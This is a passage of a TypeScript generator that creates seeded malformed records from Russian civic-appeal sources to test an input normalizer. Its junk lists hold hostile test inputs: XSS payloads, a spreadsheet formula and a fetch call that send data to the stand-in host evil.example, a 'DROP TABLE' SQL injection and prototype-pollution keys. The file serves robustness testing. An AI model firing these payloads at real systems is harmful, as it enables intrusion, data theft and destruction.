/**
 * Seeded generator of malformed source records for the reliability tests (issue: «at least 1,000 generated malformed
 * records per source … through every node: no crash, each bad record an error item naming its field, every good
 * record still processed»).
 *
 * It starts from valid records of each source, in the shapes the sandbox emulators and the source tests use (ПОС
 * message, ИМ incident, VK wall comment, VK `message_new` event, OK discussion comment, Telegram update, MAX update, a
 * row of the ПОС cabinet export), and applies one mutation per variant: a required field deleted, a wrong type, a huge text,
 * HTML and script, a broken date, an unknown status code, broken Unicode, deeply nested junk, prototype-pollution
 * keys. Every variant says which field it touched and what the normalizer must do with it:
 * - `invalid`: the record must become an error naming the record and `raw.<field>`;
 * - `valid`: the record must become an appeal that passes the schema (HTML in a text, an unknown status code…);
 * - `either`: no crash; an error must name the record and the field (or the appeal field it feeds, e.g. `/url`).
 * The same seed gives the same records (mulberry32 from the sandbox, no new dependencies).
 */
import { createRng, intBetween, pick, type Rng } from '../../sandbox/core/rng';
import { FEMALE_NAMES, MALE_NAMES, SETTLEMENTS, SURNAMES } from '../../sandbox/seed/places';
import {
	FORMAL_ANSWERS,
	GOOD_ANSWERS,
	GREETINGS,
	PROBLEMS,
	REQUESTS,
} from '../../sandbox/seed/texts';

export const MALFORMED_SOURCES = [
	'pos',
	'im',
	'vkComment',
	'vkMessage',
	'ok',
	'telegram',
	'posExport',
	'max',
] as const;
export type MalformedSource = (typeof MALFORMED_SOURCES)[number];

export const MUTATION_KINDS = [
	'delete',
	'null',
	'wrongType',
	'emptyString',
	'hugeText',
	'html',
	'brokenDate',
	'validDateForm',
	'unknownStatus',
	'brokenUnicode',
	'deepJunk',
	'protoKeys',
] as const;
export type MutationKind = (typeof MUTATION_KINDS)[number];

export type Expectation = 'invalid' | 'valid' | 'either';

export interface GeneratedRecord {
	source: MalformedSource;
	/** Order of generation (unique within a batch). */
	seq: number;
	/** What the node hands to the normalizer. */
	record: unknown;
	/** An untouched valid record. */
	pristine: boolean;
	mutation: MutationKind | null;
	/** Where in `record` the mutation happened (`[]`: the record itself). */
	path: string[];
	/** The field as the normalizer names it in errors (`raw.<field>`). */
	field: string;
	expect: Expectation;
	/** The error must name one of these (empty when the mutation broke the id itself). */
	recordIds: string[];
	/** Appeal fields the source field feeds: an `either` error may name one of these instead of `raw.<field>`. */
	appealPaths: string[];
	/** The appeal's text must be exactly this (HTML, broken Unicode, huge texts: accepted as they are, trimmed). */
	expectedText?: string;
	/** The appeal must keep this code as `sourceStatus` and carry the flag `unknown_source_status`. */
	unknownStatus?: string;
	/** The appeal's `receivedAt` must be this (valid alternative date forms). */
	expectedReceivedAt?: string;
	/** The object (path in `record`) that got `__proto__`, `constructor`, `prototype`… as own keys. */
	pollutionKeysAt?: string[];
	/** Length of the huge text put in (for the report). */
	hugeLength?: number;
	description: string;
}

export interface BatchOptions {
	seed: number;
	malformed: number;
	valid: number;
	/** Malformed records whose text is huge (default 1). */
	hugeTexts?: number;
	/** Size of a huge text in UTF-8 bytes, [min, max] (default 1–5 MB). */
	hugeBytes?: [number, number];
}

type Role =
	| 'id'
	| 'date'
	| 'text'
	| 'status'
	| 'optional'
	| 'optionalDate'
	| 'url'
	| 'container'
	| 'eventType';
type DateType = 'iso' | 'unix' | 'unixMs' | 'ok' | 'export';

interface FieldSpec {
	path: string[];
	/** As named in errors (`raw.<field>`); a prefix for containers. */
	field: string;
	role: Role;
	/** `stringOnly`: a number is refused too (MAX's message id `mid`). */
	idType?: 'string' | 'integer' | 'stringOnly';
	dateType?: DateType;
	appealPaths?: string[];
	/** Deleted together with the mutated field (ПОС falls back from `posId` to `id`). */
	alsoDelete?: string[][];
	/** Ids the error names when this field is broken (Telegram names the update when chat or message id is bad). */
	idsWhenBroken?: (record: unknown) => string[];
}

interface SourceSpec {
	build: (seq: number, rng: Rng) => unknown;
	ids: (record: unknown) => string[];
	fields: FieldSpec[];
	/** Objects that get prototype-pollution keys. */
	containers: string[][];
}

// ---------------------------------------------------------------------------------------------------------------
// Valid records

const OCT = (day: number, hour: number, minute = 0) =>
	`2026-10-${String(day).padStart(2, '0')}T${String(hour).padStart(2, '0')}:${String(minute).padStart(2, '0')}:00+03:00`;
const unix = (iso: string) => Math.floor(Date.parse(iso) / 1000);

function place(rng: Rng): { settlement: string; street: string; house: number } {
	const s = pick(rng, SETTLEMENTS);
	return { settlement: s.name, street: pick(rng, s.streets), house: intBetween(rng, 1, 60) };
}

function problemText(rng: Rng): { text: string; address: string; settlement: string } {
	const p = place(rng);
	const topic = pick(rng, Object.keys(PROBLEMS));
	const body = pick(rng, PROBLEMS[topic]).replace('{place}', `ул. ${p.street}`);
	const text = [
		pick(rng, GREETINGS),
		body.charAt(0).toUpperCase() + body.slice(1) + '.',
		pick(rng, REQUESTS),
	]
		.filter(Boolean)
		.join(' ');
	return { text, address: `ул. ${p.street}, д. ${p.house}`, settlement: p.settlement };
}

function person(rng: Rng): { surname: string; name: string; patronymic: string } {
	const female = rng() < 0.5;
	const surname = pick(rng, SURNAMES) + (female ? 'а' : '');
	return {
		surname,
		name: pick(rng, female ? FEMALE_NAMES : MALE_NAMES),
		patronymic: female ? 'Сергеевна' : 'Иванович',
	};
}

function answerText(rng: Rng): string {
	return rng() < 0.6
		? pick(rng, GOOD_ANSWERS).replace('{date}', '05.10.2026').replace('{until}', '30.11.2026') +
				' Начальник отдела Иванов И. И.'
		: pick(rng, FORMAL_ANSWERS);
}

const POS_CODES = [
	'MODERATION_NEW',
	'MODERATION_ACCEPT',
	'TAKE_TO_WORK',
	'SET_EXECUTOR',
	'POSTPONE',
	'SEND_RESPONSE',
	'FORWARD_TO_PARENT',
];

function posMessage(seq: number, rng: Rng): Record<string, unknown> {
	const day = intBetween(rng, 1, 20);
	const p = problemText(rng);
	const who = person(rng);
	const status = pick(rng, POS_CODES);
	const created = OCT(day, intBetween(rng, 8, 17), intBetween(rng, 0, 59));
	const history: Array<Record<string, unknown>> = [
		{ status: 'MODERATION_ACCEPT', createdAt: OCT(day, 18) },
	];
	if (status !== 'MODERATION_NEW' && status !== 'MODERATION_ACCEPT') {
		history.push({ status: 'TAKE_TO_WORK', createdAt: OCT(day + 1, 10) });
		history.push({
			status: 'SET_EXECUTOR',
			createdAt: OCT(day + 1, 10, 5),
			executor: 'Иванов И. И.',
		});
		history.push({
			status: 'POSTPONE',
			createdAt: OCT(day + 2, 10),
			answer: { newDate: '2026-11-30T18:00:00+03:00' },
		});
		if (status === 'SEND_RESPONSE') {
			history.push({
				status: 'SEND_RESPONSE',
				createdAt: OCT(day + 4, 12),
				answer: { answerType: 'SUPPORTED', comment: answerText(rng) },
			});
		}
	}
	return {
		id: 90000 + seq,
		posId: String(5510000 + seq),
		opaId: 'opa-60-dedovichi',
		regionId: 60,
		fz59: rng() < 0.4,
		applicant: {
			...who,
			email: `user${seq}@example.ru`,
			phone: `+7911${String(1000000 + seq).slice(-7)}`,
			postAddress: `п. Дедовичи, ${p.address}`,
		},
		description: p.text,
		location: { address: `п. Дедовичи, ${p.address}`, lat: 57.55, lon: 29.95 },
		subjectId: 12,
		subjectName: 'Дороги',
		subsubjectName: 'Ямы на дорогах',
		createdAt: created,
		updatedAt: OCT(day + 4, 12),
		status,
		statusText: 'Статус ПОС',
		rating: pick(rng, [null, 1, 2, 3, 4, 5]),
		deadline: OCT(day, 23, 59).replace('2026-10', '2026-11'),
		history,
	};
}

function imIncident(seq: number, rng: Rng): Record<string, unknown> {
	const day = intBetween(rng, 1, 25);
	const p = problemText(rng);
	const who = person(rng);
	const answered = rng() < 0.5;
	return {
		id: `INC-2026-${String(seq).padStart(5, '0')}`,
		createdAt: OCT(day, intBetween(rng, 8, 20), intBetween(rng, 0, 59)),
		status: answered ? 'answered' : pick(rng, ['new', 'in_work', 'closed']),
		text: p.text,
		sourceNetwork: pick(rng, ['vk', 'ok', 'telegram']),
		postUrl: `https://vk.com/wall-218000001_${90000 + seq}`,
		author: {
			name: `${who.name} ${who.surname.charAt(0)}.`,
			profileUrl: `https://vk.com/id${1000 + seq}`,
		},
		address: p.address,
		category: 'ЖКХ',
		deadline: OCT(day + 1, 18),
		takenAt: OCT(day, 21),
		executor: 'Отдел ЖКХ',
		rating: answered ? pick(rng, [1, 2, 3, 4, 5]) : null,
		answer: answered ? { text: answerText(rng), publishedAt: OCT(day + 1, 12) } : null,
	};
}

const VK_GROUP = 218000001;

function vkComment(seq: number, rng: Rng): Record<string, unknown> {
	const day = intBetween(rng, 1, 28);
	const from = 500 + seq;
	const who = person(rng);
	return {
		kind: 'comment',
		item: {
			id: 15000 + seq,
			from_id: from,
			date: unix(OCT(day, intBetween(rng, 7, 22), intBetween(rng, 0, 59))),
			text: problemText(rng).text,
			post_id: 4410 + (seq % 7),
			owner_id: -VK_GROUP,
			parents_stack: [],
			thread: { count: 0, items: [] },
		},
		profiles: new Map([[from, { id: from, first_name: who.name, last_name: who.surname }]]),
		// The community's reply in the thread, as the node finds it: the answer.
		...(rng() < 0.4
			? { answer: { at: OCT(Math.min(day + 1, 28), 12), text: answerText(rng) } }
			: {}),
	};
}

function vkMessageEvent(seq: number, rng: Rng): Record<string, unknown> {
	const day = intBetween(rng, 1, 28);
	const peer = 700 + seq;
	return {
		type: 'message_new',
		event_id: `ev${seq.toString(16).padStart(8, '0')}`,
		v: '5.199',
		group_id: VK_GROUP,
		object: {
			message: {
				id: 30000 + seq,
				date: unix(OCT(day, intBetween(rng, 7, 22), intBetween(rng, 0, 59))),
				peer_id: peer,
				from_id: peer,
				text: problemText(rng).text,
				conversation_message_id: seq,
				attachments: [],
			},
			client_info: { button_actions: ['text'], keyboard: true, lang_id: 0 },
		},
	};
}

function okComment(seq: number, rng: Rng): Record<string, unknown> {
	const day = intBetween(rng, 1, 28);
	const who = person(rng);
	return {
		comment: {
			id: `c${100000 + seq}`,
			date: `2026-10-${String(day).padStart(2, '0')} ${String(intBetween(rng, 7, 22)).padStart(2, '0')}:${String(intBetween(rng, 0, 59)).padStart(2, '0')}:00`,
			text: problemText(rng).text,
			author_id: String(570000 + seq),
			author_name: `${who.name} ${who.surname}`,
			author_type: 'USER',
		},
		discussion: { id: `d${9 + (seq % 5)}`, type: 'GROUP_TOPIC', title: 'Вопросы жителей' },
		groupId: '600',
		// The group's reply to this comment, as the node finds it: the answer.
		...(rng() < 0.4
			? {
					answer: {
						at: `2026-10-${String(Math.min(day + 1, 28)).padStart(2, '0')}T12:00:00+03:00`,
						text: answerText(rng),
					},
				}
			: {}),
	};
}

function telegramUpdate(seq: number, rng: Rng): Record<string, unknown> {
	const day = intBetween(rng, 1, 28);
	const who = person(rng);
	const privateChat = rng() < 0.6;
	const user = {
		id: 4200 + seq,
		is_bot: false,
		first_name: who.name,
		last_name: who.surname,
		username: `user_${seq}`,
	};
	return {
		update_id: 880000 + seq,
		message: {
			message_id: 10 + seq,
			date: unix(OCT(day, intBetween(rng, 7, 22), intBetween(rng, 0, 59))),
			text: problemText(rng).text,
			from: user,
			chat: privateChat
				? { id: user.id, type: 'private', first_name: who.name }
				: {
						id: -1001234567,
						type: 'supergroup',
						title: 'Дедовичи — обсуждение',
						username: 'dedovichi_chat',
					},
			...(privateChat
				? {}
				: {
						reply_to_message: {
							message_id: 5,
							date: unix(OCT(1, 9)),
							chat: { id: -1001234567, type: 'supergroup' },
						},
					}),
		},
	};
}

/** A MAX Bot API `message_created` update (timestamps in Unix milliseconds): a dialog with the bot or the district's chat. */
function maxUpdate(seq: number, rng: Rng): Record<string, unknown> {
	const day = intBetween(rng, 1, 28);
	const who = person(rng);
	const dialog = rng() < 0.6;
	const at =
		Date.parse(OCT(day, intBetween(rng, 7, 22), intBetween(rng, 0, 59))) + intBetween(rng, 0, 999);
	const userId = 630000 + seq;
	const chatId = dialog ? 9_100_000 + seq : -72_000_000_001;
	return {
		update_type: 'message_created',
		timestamp: at + 20,
		message: {
			sender: {
				user_id: userId,
				first_name: who.name,
				last_name: who.surname,
				name: `${who.name} ${who.surname}`,
				username: `user_${seq}`,
				is_bot: false,
			},
			recipient: dialog
				? { chat_id: chatId, chat_type: 'dialog', user_id: 590000001 }
				: { chat_id: chatId, chat_type: 'chat' },
			timestamp: at,
			body: {
				mid: `mid.${(0x5a000000 + seq).toString(16)}`,
				seq: 1000 + seq,
				text: problemText(rng).text,
				attachments: null,
			},
			...(dialog
				? {}
				: {
						link: {
							type: 'reply',
							chat_id: chatId,
							message: { mid: 'mid.post1', seq: 1, text: 'Новости района' },
						},
						url: `https://max.ru/c/${chatId}/${1000 + seq}`,
					}),
		},
	};
}

function posExportRow(seq: number, rng: Rng): Record<string, unknown> {
	const day = intBetween(rng, 1, 20);
	const p = problemText(rng);
	const who = person(rng);
	const answered = rng() < 0.5;
	const dd = String(day).padStart(2, '0');
	return {
		'Номер сообщения': 5600000 + seq,
		'Дата создания': `${dd}.10.2026 ${String(intBetween(rng, 8, 17)).padStart(2, '0')}:${String(intBetween(rng, 0, 59)).padStart(2, '0')}`,
		Статус: answered
			? 'Ответ направлен'
			: pick(rng, ['На модерации', 'В работе', 'Назначен исполнитель']),
		Тип: rng() < 0.4 ? 'Обращение (59-ФЗ)' : 'Сообщение',
		Категория: 'Дороги / Ямы на дорогах',
		'Текст сообщения': p.text,
		Адрес: `п. Дедовичи, ${p.address}`,
		'Муниципальное образование': p.settlement,
		Заявитель: `${who.surname} ${who.name} ${who.patronymic}`,
		Телефон: `+7911${String(2000000 + seq).slice(-7)}`,
		'E-mail': `row${seq}@example.ru`,
		'Срок ответа': `${dd}.11.2026`,
		'Дата ответа': answered ? `${String(day + 3).padStart(2, '0')}.10.2026 15:00` : '',
		'Текст ответа': answered ? answerText(rng) : '',
		Оценка: answered ? pick(rng, [1, 2, 3, 4, 5, '']) : '',
		Исполнитель: 'Отдел дорожного хозяйства',
	};
}

// ---------------------------------------------------------------------------------------------------------------
// Sources: fields and what each may be

const get = (record: unknown, path: string[]): unknown =>
	path.reduce<unknown>(
		(v, k) => (v !== null && typeof v === 'object' ? (v as Record<string, unknown>)[k] : undefined),
		record,
	);

const f = (path: string, field: string, role: Role, extra: Partial<FieldSpec> = {}): FieldSpec => ({
	path: path.split('.'),
	field,
	role,
	...extra,
});

const SPECS: Record<MalformedSource, SourceSpec> = {
	pos: {
		build: posMessage,
		ids: (r) => [`pos:${get(r, ['posId'])}`],
		fields: [
			f('posId', 'posId', 'id', {
				idType: 'string',
				alsoDelete: [['id']],
				appealPaths: ['/id', '/externalId', '/url'],
			}),
			f('createdAt', 'createdAt', 'date', { dateType: 'iso', appealPaths: ['/receivedAt'] }),
			f('description', 'description', 'text', { appealPaths: ['/text'] }),
			f('status', 'status', 'status'),
			f('statusText', 'statusText', 'optional'),
			f('fz59', 'fz59', 'optional'),
			f('applicant', 'applicant', 'optional'),
			f('applicant.surname', 'applicant.surname', 'optional'),
			f('applicant.name', 'applicant.name', 'optional'),
			f('applicant.phone', 'applicant.phone', 'optional'),
			f('applicant.email', 'applicant.email', 'optional'),
			f('location', 'location', 'optional'),
			f('location.address', 'location.address', 'optional'),
			f('subjectName', 'subjectName', 'optional'),
			f('rating', 'rating', 'optional'),
			f('history', 'history', 'optional'),
			f('history.0.status', 'history.0.status', 'optional'),
			f('history.0', 'history.0', 'optional'),
			f('deadline', 'deadline', 'optionalDate', { dateType: 'iso' }),
			f('answerAt', 'answerAt', 'optionalDate', { dateType: 'iso' }),
			f('history.0.createdAt', 'history.0.createdAt', 'optionalDate', { dateType: 'iso' }),
			f('updatedAt', 'updatedAt', 'optionalDate', { dateType: 'iso' }),
		],
		containers: [[], ['applicant'], ['location'], ['history', '0']],
	},
	im: {
		build: imIncident,
		ids: (r) => [`im:${get(r, ['id'])}`],
		fields: [
			f('id', 'id', 'id', { idType: 'string', appealPaths: ['/id', '/externalId'] }),
			f('createdAt', 'createdAt', 'date', { dateType: 'iso', appealPaths: ['/receivedAt'] }),
			f('text', 'text', 'text', { appealPaths: ['/text'] }),
			f('status', 'status', 'status'),
			f('postUrl', 'postUrl', 'url', { appealPaths: ['/url'] }),
			f('sourceNetwork', 'sourceNetwork', 'optional'),
			f('author', 'author', 'optional'),
			f('author.name', 'author.name', 'optional'),
			f('author.profileUrl', 'author.profileUrl', 'optional'),
			f('address', 'address', 'optional'),
			f('category', 'category', 'optional'),
			f('executor', 'executor', 'optional'),
			f('rating', 'rating', 'optional'),
			f('answer', 'answer', 'optional'),
			f('answer.text', 'answer.text', 'optional'),
			f('deadline', 'deadline', 'optionalDate', { dateType: 'iso' }),
			f('takenAt', 'takenAt', 'optionalDate', { dateType: 'iso' }),
			f('answer.publishedAt', 'answer.publishedAt', 'optionalDate', { dateType: 'iso' }),
		],
		containers: [[], ['author']],
	},
	vkComment: {
		build: vkComment,
		ids: (r) => [
			`vk:${get(r, ['item', 'owner_id'])}_${get(r, ['item', 'post_id'])}_c${get(r, ['item', 'id'])}`,
		],
		fields: [
			f('item.id', 'id', 'id', { idType: 'integer', appealPaths: ['/id', '/externalId', '/url'] }),
			f('item.date', 'date', 'date', { dateType: 'unix', appealPaths: ['/receivedAt'] }),
			f('item.text', 'text', 'text', { appealPaths: ['/text'] }),
			f('item.from_id', 'from_id', 'optional'),
			f('item.owner_id', 'owner_id', 'optional'),
			f('item.post_id', 'post_id', 'optional'),
			f('item.parents_stack', 'parents_stack', 'optional'),
			f('item.thread', 'thread', 'optional'),
			f('item.reply_to_user', 'reply_to_user', 'optional'),
		],
		containers: [['item'], ['item', 'thread']],
	},
	vkMessage: {
		build: vkMessageEvent,
		ids: (r) => [
			`vk:msg${get(r, ['object', 'message', 'peer_id'])}_${get(r, ['object', 'message', 'id'])}`,
			`vk:${get(r, ['event_id'])}`,
		],
		fields: [
			f('type', 'type', 'eventType'),
			f('object.message.id', 'id', 'id', {
				idType: 'integer',
				appealPaths: ['/id', '/externalId'],
			}),
			f('object.message.date', 'date', 'date', { dateType: 'unix', appealPaths: ['/receivedAt'] }),
			f('object.message.text', 'text', 'text', { appealPaths: ['/text'] }),
			f('object.message.from_id', 'from_id', 'optional'),
			f('object.message.peer_id', 'peer_id', 'optional'),
			f('object.message.attachments', 'attachments', 'optional'),
			f('object.client_info', 'client_info', 'optional'),
			f('event_id', 'event_id', 'optional'),
			f('group_id', 'group_id', 'optional'),
		],
		containers: [[], ['object'], ['object', 'message']],
	},
	ok: {
		build: okComment,
		ids: (r) => [`ok:${get(r, ['discussion', 'id'])}_${get(r, ['comment', 'id'])}`],
		fields: [
			f('comment.id', 'id', 'id', { idType: 'string', appealPaths: ['/id', '/externalId'] }),
			f('comment.date', 'date', 'date', { dateType: 'ok', appealPaths: ['/receivedAt'] }),
			f('comment.text', 'text', 'text', { appealPaths: ['/text'] }),
			f('comment.author_id', 'author_id', 'optional'),
			f('comment.author_name', 'author_name', 'optional'),
			f('comment.author_type', 'author_type', 'optional'),
			f('comment.reply_to_comment_id', 'reply_to_comment_id', 'optional'),
		],
		containers: [['comment']],
	},
	telegram: {
		build: telegramUpdate,
		ids: (r) => [
			`telegram:${get(r, ['update_id'])}`,
			`telegram:${get(r, ['message', 'chat', 'id'])}_${get(r, ['message', 'message_id'])}`,
		],
		fields: [
			f('message', 'message', 'container', {
				idsWhenBroken: (r) => [`telegram:${get(r, ['update_id'])}`],
			}),
			f('message.chat', 'message.chat.id', 'container', {
				idsWhenBroken: (r) => [`telegram:${get(r, ['update_id'])}`],
			}),
			f('message.chat.id', 'message.chat.id', 'id', {
				idType: 'integer',
				idsWhenBroken: (r) => [`telegram:${get(r, ['update_id'])}`],
			}),
			f('message.message_id', 'message.message_id', 'id', {
				idType: 'integer',
				idsWhenBroken: (r) => [`telegram:${get(r, ['update_id'])}`],
			}),
			f('message.date', 'message.date', 'date', { dateType: 'unix', appealPaths: ['/receivedAt'] }),
			f('message.text', 'message.text', 'text', { appealPaths: ['/text'] }),
			f('message.from', 'message.from', 'optional'),
			f('message.from.first_name', 'message.from.first_name', 'optional'),
			f('message.from.id', 'message.from.id', 'optional'),
			f('message.from.username', 'message.from.username', 'optional'),
			f('message.chat.type', 'message.chat.type', 'optional'),
			f('message.chat.username', 'message.chat.username', 'url', { appealPaths: ['/url'] }),
			f('message.reply_to_message', 'message.reply_to_message', 'optional'),
			f('update_id', 'update_id', 'optional'),
		],
		containers: [[], ['message'], ['message', 'chat'], ['message', 'from']],
	},
	max: {
		build: maxUpdate,
		ids: (r) => [`max:${get(r, ['message', 'body', 'mid'])}`],
		fields: [
			f('update_type', 'update_type', 'eventType'),
			f('message', 'message', 'container'),
			f('message.body', 'message.body', 'container'),
			// The message id is the appeal id: a broken one is named only by the source prefix.
			f('message.body.mid', 'message.body.mid', 'id', {
				idType: 'stringOnly',
				appealPaths: ['/id', '/externalId'],
			}),
			f('message.recipient.chat_id', 'message.recipient.chat_id', 'id', {
				idType: 'integer',
				idsWhenBroken: (r) => [`max:${get(r, ['message', 'body', 'mid'])}`],
			}),
			f('message.recipient.chat_type', 'message.recipient.chat_type', 'eventType'),
			f('message.timestamp', 'message.timestamp', 'date', {
				dateType: 'unixMs',
				appealPaths: ['/receivedAt'],
			}),
			f('message.body.text', 'message.body.text', 'text', { appealPaths: ['/text'] }),
			f('message.body.attachments', 'message.body.attachments', 'optional'),
			f('message.body.seq', 'message.body.seq', 'optional'),
			f('message.sender', 'message.sender', 'optional'),
			f('message.sender.first_name', 'message.sender.first_name', 'optional'),
			f('message.sender.last_name', 'message.sender.last_name', 'optional'),
			f('message.sender.user_id', 'message.sender.user_id', 'optional'),
			f('message.sender.username', 'message.sender.username', 'url', {
				appealPaths: ['/author/profileUrl'],
			}),
			f('message.recipient.user_id', 'message.recipient.user_id', 'optional'),
			f('message.link', 'message.link', 'optional'),
			f('message.url', 'message.url', 'url', { appealPaths: ['/url'] }),
			f('timestamp', 'timestamp', 'optional'),
		],
		containers: [
			[],
			['message'],
			['message', 'body'],
			['message', 'sender'],
			['message', 'recipient'],
		],
	},
	posExport: {
		build: posExportRow,
		ids: (r) => [`pos:${get(r, ['Номер сообщения'])}`],
		fields: [
			f('Номер сообщения', '«Номер сообщения»', 'id', {
				idType: 'string',
				appealPaths: ['/id', '/externalId'],
			}),
			f('Дата создания', '«Дата создания»', 'date', {
				dateType: 'export',
				appealPaths: ['/receivedAt'],
			}),
			f('Текст сообщения', '«Текст сообщения»', 'text', { appealPaths: ['/text'] }),
			f('Статус', '«Статус»', 'status'),
			f('Тип', '«Тип»', 'optional'),
			f('Категория', '«Категория»', 'optional'),
			f('Адрес', '«Адрес»', 'optional'),
			f('Муниципальное образование', '«Муниципальное образование»', 'optional'),
			f('Заявитель', '«Заявитель»', 'optional'),
			f('Телефон', '«Телефон»', 'optional'),
			f('Текст ответа', '«Текст ответа»', 'optional'),
			f('Оценка', '«Оценка»', 'optional'),
			f('Исполнитель', '«Исполнитель»', 'optional'),
			f('Срок ответа', '«Срок ответа»', 'optionalDate', { dateType: 'export' }),
			f('Дата ответа', '«Дата ответа»', 'optionalDate', { dateType: 'export' }),
		],
		containers: [[]],
	},
};

// ---------------------------------------------------------------------------------------------------------------
// Junk

export const HTML_SNIPPETS = [
	'<script>alert("xss")</script>',
	'<img src=x onerror=alert(1)>',
	'"><svg/onload=alert(document.domain)>',
	'<iframe src="javascript:alert(1)"></iframe>',
	'=HYPERLINK("http://evil.example/?q="&A1,"нажмите")',
	"'; DROP TABLE appeals; --",
	'{{ $json.secret }} ${process.exit(1)}',
	'<b>Жирный</b> &amp; &lt;текст&gt; &#x3C;script&#x3E;',
	'<!-- комментарий --><style>body{display:none}</style>',
	'<a href="javascript:void(0)" onclick="fetch(`//evil.example`)">ссылка</a>',
];

export const BROKEN_UNICODE = [
	'\uD800',
	'\uDFFF',
	'\uDBFF\uDBFF',
	'\u0000',
	'\u202E',
	'\u202Dтекст\u202C',
	'\uFEFF',
	'\u200B\u200D',
	'e\u0301\u0301\u0301\u0301',
	'\uFFFF\uFFFE',
	'\u2028\u2029',
	'\u0007\u001B[31m',
	'Z\u0335\u0322\u031B\u031B\u0348a\u0338\u0356l\u0337g\u0336o',
];

const UNKNOWN_STATUS_CODES = [
	'ARCHIVED_BY_REGION',
	'STATUS_42',
	'UNKNOWN',
	'__proto__',
	'constructor',
	'toString',
	'hasOwnProperty',
	'valueOf',
	'PROTOTYPE_POLLUTED',
	'MODERATION_NEW_V2',
	'<script>alert(1)</script>',
];
const UNKNOWN_EVENT_TYPES = [
	'group_join',
	'message_reply',
	'wall_reply_delete',
	'message_typing_state',
	'MESSAGE_NEW',
	'message_new ',
	'__proto__',
	'constructor',
];
const PROTO_VALUES = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty'];

/** Broken dates per kind of date field. */
const BROKEN_DATES: Record<DateType, unknown[]> = {
	iso: [
		'31.02.2026',
		'',
		'вчера',
		1e20,
		-1,
		0,
		-1790000000,
		'2026-02-31T10:00:00+03:00',
		'2025-02-29T10:00:00+03:00',
		'2026-13-01T10:00:00+03:00',
		'2026-10-01T24:00:00+03:00',
		'2026-10-01T10:60:00+03:00',
		'2026-10-01T10:00:00+25:00',
		'0000-00-00T00:00:00Z',
		'NaN',
		'Infinity',
		'1790000000',
		'2026-10-01 10:00',
		'Thu Oct 01 2026 10:00:00 GMT+0300',
		253402300800,
		'2026-10-01T10:00:00+03:00<script>',
	],
	unix: [
		'',
		'вчера',
		1e20,
		-1,
		0,
		-1790000000,
		'31.02.2026',
		'2026-10-01T09:15:00+03:00',
		253402300800,
		'NaN',
		'1790000000abc',
		'-',
		'1e9',
	],
	// MAX stamps in milliseconds: Unix seconds (1790000000) would put the message in 1970.
	unixMs: [
		'',
		'вчера',
		1e20,
		-1,
		0,
		1790000000,
		-1790000000000,
		1790000000000.5,
		'31.02.2026',
		'2026-10-01T09:15:00+03:00',
		'NaN',
		'1790000000000abc',
		'-',
		'1e12',
	],
	ok: [
		'',
		'вчера',
		1e20,
		-1,
		0,
		'31.02.2026',
		'2026-02-31 10:00:00',
		'2026-10-01 25:00:00',
		'2026-10-01 10:60',
		'NaN',
		253402300800000,
		'2026-10-01 10:00:00 MSK',
	],
	export: [
		'31.02.2026',
		'',
		'вчера',
		1e20,
		-1,
		0,
		'32.01.2026',
		'01.13.2026',
		'01.10.2026 25:00',
		'29.02.2025',
		1790000000,
		'NaN',
		100,
		'2026-02-31T10:00:00+03:00',
		'01/10/2026',
	],
};

/** Other valid spellings of a date (and what `receivedAt` must become). */
const VALID_DATES: Record<DateType, Array<[unknown, string]>> = {
	iso: [
		['2026-10-01T09:15:00Z', '2026-10-01T09:15:00Z'],
		['2026-10-01T09:15:00', '2026-10-01T09:15:00+03:00'],
		['2026-10-01T09:15+03:00', '2026-10-01T09:15:00+03:00'],
		['2026-10-01T09:15:00.123456+03:00', '2026-10-01T09:15:00.123+03:00'],
		[1790000000, '2026-09-21T17:13:20+03:00'],
		[' 2026-10-01T09:15:00+03:00 ', '2026-10-01T09:15:00+03:00'],
		['2024-02-29T10:00:00+03:00', '2024-02-29T10:00:00+03:00'],
	],
	unix: [
		[1790000000, '2026-09-21T17:13:20+03:00'],
		['1790000000', '2026-09-21T17:13:20+03:00'],
	],
	unixMs: [
		[1790000000000, '2026-09-21T17:13:20+03:00'],
		[1790000000999, '2026-09-21T17:13:20+03:00'],
		['1790000000000', '2026-09-21T17:13:20+03:00'],
	],
	ok: [
		['2026-10-01 12:00:00', '2026-10-01T12:00:00+03:00'],
		['2026-10-01 12:00', '2026-10-01T12:00:00+03:00'],
		[1790000000000, '2026-09-21T17:13:20+03:00'],
		['1790000000000', '2026-09-21T17:13:20+03:00'],
		[1790000000, '2026-09-21T17:13:20+03:00'],
		['2026-10-01T12:00:00+03:00', '2026-10-01T12:00:00+03:00'],
	],
	export: [
		['01.10.2026 09:15', '2026-10-01T09:15:00+03:00'],
		['01.10.2026', '2026-10-01T00:00:00+03:00'],
		[46296.5, '2026-10-01T12:00:00+03:00'],
		['2026-10-01T09:15:00+03:00', '2026-10-01T09:15:00+03:00'],
		['2026-10-01 09:15', '2026-10-01T09:15:00+03:00'],
		['01.10.2026, 09:15:30', '2026-10-01T09:15:30+03:00'],
		['29.02.2024', '2024-02-29T00:00:00+03:00'],
	],
};

type TypeName = 'number' | 'digits' | 'string' | 'object' | 'array' | 'boolean';
const WRONG_TYPES: Array<[TypeName, () => unknown]> = [
	['number', () => 12345],
	['digits', () => '12345'],
	['string', () => 'не то значение'],
	['object', () => ({ value: 1, nested: { deeper: [1, 2] } })],
	['array', () => [1, 'x', null, { a: 1 }]],
	['boolean', () => true],
	['boolean', () => false],
];

/** Nested objects and arrays `depth` levels deep (iteratively: no recursion in the generator). */
export function deepJunk(depth: number): unknown {
	let value: unknown = 'дно';
	for (let i = 0; i < depth; i++)
		value = i % 2 ? { level: i, junk: value, also: [null, i] } : [value, { i }];
	return value;
}

/** An object with prototype-pollution keys as own properties, the way JSON.parse makes them. */
function pollutionKeys(): Record<string, unknown> {
	return JSON.parse(
		'{"__proto__": {"polluted": "yes", "isAdmin": true}, "constructor": {"prototype": {"polluted": "yes"}}, "prototype": {"polluted": "yes"}, "toString": "junk", "valueOf": {"polluted": "yes"}, "hasOwnProperty": "junk"}',
	) as Record<string, unknown>;
}

function sprinkle(rng: Rng, base: string, pieces: string[], count: number): string {
	let out = base;
	for (let i = 0; i < count; i++) {
		const at = intBetween(rng, 0, out.length);
		out = out.slice(0, at) + pick(rng, pieces) + out.slice(at);
	}
	return out;
}

/** A text of about `bytes` UTF-8 bytes: real appeal sentences with HTML and odd characters, padded with whitespace. */
export function hugeText(rng: Rng, bytes: number): string {
	const paragraphs = Array.from({ length: 12 }, () =>
		sprinkle(rng, problemText(rng).text, [...HTML_SNIPPETS, '\u202E', '\u0000', 'e\u0301'], 2),
	);
	const unit = paragraphs.join('\n');
